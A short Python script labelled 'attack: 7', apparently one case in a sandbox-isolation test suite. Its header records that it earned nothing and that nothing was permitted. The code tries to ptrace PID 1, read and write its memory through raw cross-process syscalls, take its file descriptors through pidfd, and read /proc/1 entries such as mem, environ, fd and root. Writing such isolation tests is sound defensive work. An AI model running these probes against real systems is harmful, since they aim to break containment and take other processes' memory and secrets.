# attack: 7
# does: traces the runner, writes to its memory, takes its descriptors, reads what /proc tells of it
# run: finished
# earns: 0
# prints: nothing was let
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
let = [request for request in (16, 0x4206) if libc.ptrace(request, 1, 0, 0) == 0]
place = (ctypes.c_size_t * 2)(0x400000, 8)
let += [number for number in (310, 311, 312, 438, 440) if libc.syscall(number, 1, place, 1, place, 1, 0) >= 0]
pidfd = libc.syscall(434, 1, 0)
let += [number for number in (438,) if pidfd >= 0 and libc.syscall(number, pidfd, 3, 0) >= 0]
for name in ("mem", "environ", "maps", "fd", "cwd", "root", "exe", "ns/net", "stack", "syscall", "auxv", "map_files"):
    try:
        path = f"/proc/1/{name}"
        os.readlink(path) if name in ("cwd", "root", "exe", "ns/net") else os.listdir(path) if "f" in name else open(path).read(1)
        let.append(name)
    except (OSError, UnicodeDecodeError):
        pass
print(let or "nothing was let")
